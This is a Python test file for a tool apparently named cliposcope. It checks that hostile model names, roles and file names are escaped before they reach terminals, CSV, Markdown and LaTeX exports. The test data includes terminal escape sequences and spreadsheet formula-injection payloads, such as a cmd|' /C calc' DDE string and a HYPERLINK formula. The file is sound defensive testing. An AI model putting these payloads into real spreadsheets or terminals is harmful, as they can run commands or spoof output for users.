"""The permanent hostile suite, output injection: a model spec, a role or a file name from
a result folder reaches terminals, spreadsheets and documents. On a terminal it is shown,
never run: no escape sequence, bell or other control character is printed, and a newline
in it never starts a line of its own (a forged table row). In a CSV no text cell can run
as a spreadsheet formula, while numbers stay numbers. Markdown and LaTeX tables hold no
control characters either."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from cliposcope.report.csv_cells import FORMULA_STARTS, is_number_text, neutralise
from cliposcope.terminal import terminal_text

from .conftest import run_cli, save_pair

HOSTILE_SPEC = "\x1b]0;pwned\x07\x1b[31mevil\nforged row"
HOSTILE_ROLE = "null:evil\x1b[2J\rcontrol"
# Any control character but the newline that ends a line (C0, DEL, C1).
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")
FORMULAS = [
    '=HYPERLINK("http://x"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-inf",
]


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("injection") / "results"
    save_pair(folder, model_spec=HOSTILE_SPEC, control_role=HOSTILE_ROLE)
    return folder


def assert_clean(text: str) -> None:
    """Printed text with no control character, no forged line, the spec shown."""
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text
    assert not CONTROL.search(text), repr(CONTROL.search(text).group())
    assert not any(line.startswith("forged row") for line in text.splitlines())
    assert "Traceback" not in text


def test_table_shows_the_escapes_and_runs_none(hostile_folder, capsys):
    code, out, err = run_cli(capsys, "table", *sorted(hostile_folder.glob("*.json")))
    assert code == 0, err
    assert_clean(out + err)
    assert "\\x1b]0;pwned\\x07\\x1b[31mevil\\nforged row" in out
    table_rows = [line for line in out.splitlines() if line.startswith("\\x1b]0;pwned")]
    assert len(table_rows) == 1  # one row, its cells on one line
    verdict = next(line for line in out.splitlines() if line.startswith("- "))
    assert verdict.startswith("- \\x1b]0;pwned\\x07\\x1b[31mevil\\nforged row (tor): ")
    assert "evil\\x1b[2J\\rcontrol" in verdict  # the control's name from its role


def test_table_csv_and_export_formats(hostile_folder, tmp_path, capsys):
    files = sorted(hostile_folder.glob("*.json"))
    code, out, err = run_cli(capsys, "table", *files, "--csv", tmp_path / "t.csv")
    assert code == 0
    assert_clean(out + err)
    for suffix in ("md", "tex", "csv", "jsonl"):
        code, out, err = run_cli(
            capsys, "export", hostile_folder, "--out", tmp_path / f"a.{suffix}"
        )
        assert code == 0
        assert_clean(out + err)
    for suffix in ("md", "tex"):  # documents: one line per row, escapes shown
        text = (tmp_path / f"a.{suffix}").read_text(encoding="utf-8")
        assert "\x1b" not in text and "\x07" not in text and "\r" not in text
        assert not any(line.startswith("forged row") for line in text.splitlines())
    # the tidy tables keep the spec as it is: it is data, and JSON lines and CSV quote it
    with open(tmp_path / "a.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert HOSTILE_SPEC in {row["model_spec"] for row in rows}


def test_leaderboard_and_report_print_nothing_raw(hostile_folder, tmp_path, capsys):
    code, out, err = run_cli(capsys, "leaderboard", hostile_folder, "--out", tmp_path / "b.html")
    assert code == 0
    assert_clean(out + err)
    code, out, err = run_cli(capsys, "report", hostile_folder, "--out", tmp_path / "r.html")
    assert code == 0
    assert_clean(out + err)  # matplotlib warns of glyphs it lacks: none are asked for


def test_messages_about_a_hostile_path_are_clean(hostile_folder, tmp_path, capsys):
    evil = tmp_path / "x\x1b]0;pwned\x07\nforged row.json"
    evil.write_text("[]")
    code, out, err = run_cli(capsys, "table", evil)
    assert code == 2
    assert_clean(out + err)
    code, _, err = run_cli(capsys, "export", evil, "--out", tmp_path / "e\x1b[31m.csv")
    assert code == 2
    assert_clean(err)
    missing = tmp_path / "missing\x1b[2J"
    code, _, err = run_cli(capsys, "leaderboard", missing, "--out", tmp_path / "b.html")
    assert code == 2
    assert_clean(err)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("toy:default", "toy:default"),
        ("naïve café 東京 ÆØÅ", "naïve café 東京 ÆØÅ"),
        ("a\x1b[31mb", "a\\x1b[31mb"),
        ("title\x1b]0;x\x07", "title\\x1b]0;x\\x07"),
        ("line\nforged", "line\\nforged"),
        ("back\rover", "back\\rover"),
        ("tab\there", "tab\\there"),
        ("nul\x00del\x7f", "nul\\x00del\\x7f"),
        ("c1 csi \x9b2J next line \x85", "c1 csi \\x9b2J next line \\x85"),
        ("bidi \u202eevil\u202c", "bidi \\u202eevil\\u202c"),
        ("separator \u2028 \u2029", "separator \\u2028 \\u2029"),
        ("surrogate \ud800", "surrogate \\ud800"),
    ],
)
def test_the_terminal_neutraliser(text, shown):
    assert terminal_text(text) == shown
    assert terminal_text(shown) == shown  # already safe: unchanged
    shown.encode("utf-8")  # printable on any UTF-8 terminal


# --- CSV ----------------------------------------------------------------------------------


def control_name(spec: str) -> str:
    """The formula as a control's name (a role names a file: no slash)."""
    return spec.strip().replace("/", "|")


@pytest.fixture(scope="module")
def formula_folders(tmp_path_factory) -> list[Path]:
    folders = []
    for index, spec in enumerate(FORMULAS):
        folder = tmp_path_factory.mktemp(f"formula{index}") / "results"
        save_pair(folder, model_spec=spec, control_role=f"null:{control_name(spec)}")
        folders.append(folder)
    return folders


def read_csv(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def assert_spreadsheet_safe(
    rows: list[list[str]], numeric: set[str], suffixes: tuple[str, ...] = ()
) -> None:
    """No text cell starts like a formula; the numeric columns (named, or ending in one of
    ``suffixes``) parse as numbers."""
    header = rows[0]
    for row in rows[1:]:
        for name, cell in zip(header, row, strict=True):
            if name in numeric or (suffixes and name.endswith(suffixes)):
                if cell:
                    float(cell)  # a number, never a quoted one
                    assert is_number_text(cell), (name, cell)
            else:
                assert not cell.startswith(FORMULA_STARTS) or is_number_text(cell), (name, cell)


@pytest.mark.slow
@pytest.mark.parametrize("index", range(len(FORMULAS)), ids=[repr(f)[1:12] for f in FORMULAS])
def test_every_csv_neutralises_formulas_and_keeps_numbers(index, formula_folders, tmp_path, capsys):
    from cliposcope.report.export import COLUMNS

    folder = formula_folders[index]
    spec = FORMULAS[index]
    files = sorted(folder.glob("*.json"))
    numeric = {name for name, kind in COLUMNS.items() if kind != "text"}
    table, export = tmp_path / "table.csv", tmp_path / "export.csv"
    assert run_cli(capsys, "table", *files, "--csv", table)[0] == 0
    assert run_cli(capsys, "export", folder, "--out", export)[0] == 0
    code, _, err = run_cli(capsys, "leaderboard", folder, "--out", tmp_path / "board.html")
    assert code == 0, err
    for path in (table, export):
        rows = read_csv(path)
        assert_spreadsheet_safe(rows, numeric)
        specs = {row[rows[0].index("model_spec")] for row in rows[1:]}
        assert "'" + spec in specs
        verdicts = [row for row in rows[1:] if row[rows[0].index("role")] == "verdict"]
        group = verdicts[0][rows[0].index("group")]
        assert len(verdicts) == 1 and group == "'" + control_name(spec)
    board = read_csv(tmp_path / "board.csv")
    assert_spreadsheet_safe(board, set(), (" estimate", " ci_low", " ci_high"))
    assert board[1][0].startswith("'" + spec)


def test_numbers_stay_numbers_and_text_like_numbers_does_not():
    for number in ("-0.3", "+3", "-1e-05", "-.5", "1.", "0"):
        assert neutralise(number) == number
    for text in ("-inf", "-nan", "+Infinity", "-1_000", "\t1", "-", "-0x1f", "-1e5=1"):
        assert neutralise(text) == "'" + text
    assert neutralise(-0.3) == -0.3 and neutralise(7) == 7
